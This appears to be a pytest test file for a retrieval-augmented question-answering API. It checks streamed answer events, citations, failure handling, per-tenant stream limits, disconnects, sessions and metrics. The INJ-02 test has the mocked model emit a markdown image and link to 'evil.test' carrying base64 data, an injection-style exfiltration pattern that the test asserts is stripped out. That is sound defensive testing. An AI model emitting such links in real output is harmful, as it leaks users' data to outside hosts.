"""Answers as they come (INJ-02, DOS-12, DOS-13, CRASH-10)."""

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.responses import StreamingResponse
from starlette.types import Message

from semantic_memory.api.app import create_app
from semantic_memory.core.access import Role
from tests.ai.openai_server import Endpoint, chunk, failing, serving
from tests.api.conftest import ROOT, Api, client

QUESTION = "How many days are backups kept in the archive?"
SENTENCE = "Backups are kept for ninety days in the archive."
EVENT_STREAM = {"Accept": "text/event-stream"}


@pytest.fixture
async def endpoint() -> AsyncIterator[Endpoint]:
    async with serving() as running:
        running.pieces = ("Backups are kept for ", "ninety days in the archive. [1]")
        yield running


@pytest.fixture
async def talking(endpoint: Endpoint, tmp_path: Path) -> AsyncIterator[Api]:
    """With a chat model behind the endpoint."""
    settings = endpoint.settings(data_dir=tmp_path / "data", embedder="hashing", extract_workers=1, streams_per_tenant=2, search_steps=0)
    app = create_app(settings)
    async with app.router.lifespan_context(app), client(app) as http:
        yield Api(app, http)


def read(text: str) -> list[tuple[str, Any]]:
    """Names and data of server-sent events."""
    found = [
        dict(line.split(": ", 1) for line in event.splitlines()) for event in text.split("\n\n") if event and not event.startswith(":")
    ]
    return [(event.get("event", ""), json.loads(event["data"])) for event in found]


async def streamed(api: Api, question: str = QUESTION, **body: object) -> list[tuple[str, Any]]:
    headers = {**await api.headers(Role.READER), **EVENT_STREAM}
    answer = await api.http.post(f"{ROOT}/query", json={"query": question, **body}, headers=headers)
    assert answer.headers["Content-Type"].startswith("text/event-stream"), answer.text
    return read(answer.text)


async def test_an_answer_comes_as_sources_sentences_citations_and_an_end(api: Api) -> None:
    document = await api.ingested()

    events = await streamed(api)
    names = [name for name, _ in events]

    assert names[0] == "sources"
    assert names[-1] == "done"
    assert names.index("token") < names.index("citation")
    assert events[0][1]["sources"][0]["document_id"] == document


async def test_the_tokens_add_up_to_the_answer_that_is_given_without_streaming(talking: Api) -> None:
    await talking.ingested()

    events = await streamed(talking)
    plain = (await talking.http.post(f"{ROOT}/query", json={"query": QUESTION}, headers=await talking.headers(Role.READER))).json()

    assert "".join(data["text"] for name, data in events if name == "token") == plain["answer"] == SENTENCE
    assert [data for name, data in events if name == "citation"] == plain["sources"]


async def test_a_citation_opens_its_lines(api: Api) -> None:
    document = await api.ingested()

    citation = next(data for name, data in await streamed(api) if name == "citation")

    assert citation["link"] == f"/api/v1/memory/file/{document}#L9"
    assert (await api.http.get(citation["link"], headers=await api.headers(Role.READER))).status_code == 200


async def test_what_is_not_known_says_what_is_missing_and_what_is_near(api: Api) -> None:
    await api.ingested()

    done = (await streamed(api, "Which wine goes with grilled salmon?"))[-1][1]

    assert (done["answer"], done["answerable"], done["citations"]) == ("I don't know.", False, [])
    assert done["missing"] == ["wine", "goes", "grilled", "salmon"]
    assert done["nearest"][0]["path"] == "handbook.md"


async def test_a_question_that_cannot_be_asked_has_a_status_not_a_stream(api: Api) -> None:
    headers = {**await api.headers(Role.READER), **EVENT_STREAM}

    assert (await api.http.post(f"{ROOT}/query", json={"query": " "}, headers=headers)).status_code == 422


async def test_crash_10_a_failing_model_streams_quotes_that_say_so(talking: Api, endpoint: Endpoint) -> None:
    await talking.ingested()
    endpoint.faults.extend([failing(500)] * 3)

    done = (await streamed(talking))[-1][1]

    assert done["answerable"] is True
    assert done["degraded_reasons"] == ["chat model 'talk' failed: backend_unavailable"]


async def test_crash_10_a_wrong_key_is_an_error_event(talking: Api, endpoint: Endpoint) -> None:
    await talking.ingested()
    endpoint.faults.append(failing(401))

    name, problem = (await streamed(talking))[-1]

    assert (name, problem["code"], problem["status"]) == ("error", "configuration", 503)


async def test_inj_02_the_models_links_and_pictures_do_not_get_out(talking: Api, endpoint: Endpoint) -> None:
    await talking.ingested()
    endpoint.pieces = (
        "Backups are kept for ![x](https://evil.test/?d=c2VjcmV0) ninety days in the archive [1]. ",
        "See https://evil.test/x [1].",
    )

    events = await streamed(talking)

    assert "evil.test" not in json.dumps(events)


async def test_dos_13_a_tenant_has_only_its_share_of_streams(talking: Api, endpoint: Endpoint) -> None:
    await talking.ingested()
    held = [talking.services.streams.hold("default") for _ in range(2)]
    for hold in held:
        await hold.__aenter__()
    headers = {**await talking.headers(Role.READER), **EVENT_STREAM}

    answer = await talking.http.post(f"{ROOT}/query", json={"query": QUESTION}, headers=headers)
    for hold in held:
        await hold.__aexit__(None, None, None)

    assert (answer.status_code, answer.headers["Retry-After"]) == (429, "1")
    assert (await streamed(talking))[-1][0] == "done"


async def test_dos_12_a_client_that_leaves_stops_the_model_within_a_second(talking: Api, endpoint: Endpoint) -> None:
    await talking.ingested()
    left = asyncio.Event()

    async def endless() -> AsyncIterator[str]:
        try:
            yield chunk(f"{SENTENCE} [1] More follows")
            while True:
                yield chunk(" and so on")
                await asyncio.sleep(0.01)
        finally:
            left.set()

    endpoint.faults.append(StreamingResponse(endless(), media_type="text/event-stream"))
    await leave_after_first_sentence(talking)

    await asyncio.wait_for(left.wait(), 1)
    async with talking.services.streams.hold("default"), talking.services.streams.hold("default"):
        pass


async def leave_after_first_sentence(api: Api) -> None:
    """Asks, reads a sentence and closes the connection."""
    first_sentence = asyncio.Event()
    body = iter([{"type": "http.request", "body": json.dumps({"query": QUESTION}).encode(), "more_body": False}])

    async def receive() -> Message:
        if (message := next(body, None)) is not None:
            return message
        await first_sentence.wait()
        return {"type": "http.disconnect"}

    async def send(message: Message) -> None:
        if b"event: token" in message.get("body", b""):
            first_sentence.set()

    given = {**await api.headers(Role.READER), **EVENT_STREAM, "Content-Type": "application/json"}
    headers = [(name.lower().encode(), value.encode()) for name, value in given.items()]
    path = f"{ROOT}/query"
    scope = {"type": "http", "method": "POST", "path": path, "raw_path": path.encode(), "query_string": b"", "headers": headers}
    await api.app({**scope, "http_version": "1.1", "scheme": "http", "server": ("test", 80), "client": ("test", 1)}, receive, send)


async def test_only_administrators_choose_the_temperature(talking: Api, endpoint: Endpoint) -> None:
    await talking.ingested()
    body = {"query": QUESTION, "temperature": 1.0}

    refused = await talking.http.post(f"{ROOT}/query", json=body, headers=await talking.headers(Role.READER))
    await talking.http.post(f"{ROOT}/query", json=body, headers=await talking.headers(Role.ADMIN))

    assert refused.status_code == 403
    assert [request["temperature"] for request in endpoint.requests] == [1.0]


async def test_a_conversation_goes_on_and_can_be_forgotten(api: Api) -> None:
    await api.ingested()
    headers = await api.headers(Role.READER)
    first = (await api.http.post(f"{ROOT}/query", json={"query": QUESTION, "session_id": "new"}, headers=headers)).json()

    follow_up = {"query": "And where?", "session_id": first["session_id"]}
    second = (await api.http.post(f"{ROOT}/query", json=follow_up, headers=headers)).json()
    gone = await api.http.delete(f"{ROOT}/sessions/{first['session_id']}", headers=headers)
    again = await api.http.delete(f"{ROOT}/sessions/{first['session_id']}", headers=headers)

    assert "backups" in second["question"]
    assert (gone.status_code, again.status_code) == (204, 404)


async def test_ten_02_another_principals_conversation_is_not_there(api: Api) -> None:
    await api.ingested()
    body = {"query": QUESTION, "session_id": "mine"}
    await api.http.post(f"{ROOT}/query", json=body, headers=await api.headers(Role.READER))
    foreign = await api.headers(Role.ADMIN)

    theirs = await api.http.post(f"{ROOT}/query", json={"query": "And where?", "session_id": "mine"}, headers=foreign)

    assert theirs.json()["question"] == "And where?"


async def test_an_answer_that_was_given_before_is_streamed_again(talking: Api, endpoint: Endpoint) -> None:
    await talking.ingested()

    first, second = await streamed(talking), await streamed(talking)

    assert [event for event in first if event[0] != "done"] == [event for event in second if event[0] != "done"]
    assert len(endpoint.requests) == 1


async def test_tokens_are_measured(talking: Api) -> None:
    await talking.ingested()
    await streamed(talking)

    metrics = (await talking.http.get("/metrics")).text

    assert 'llm_tokens_total{direction="completion"}' in metrics
    assert "rag_latency_seconds_count 1.0" in metrics
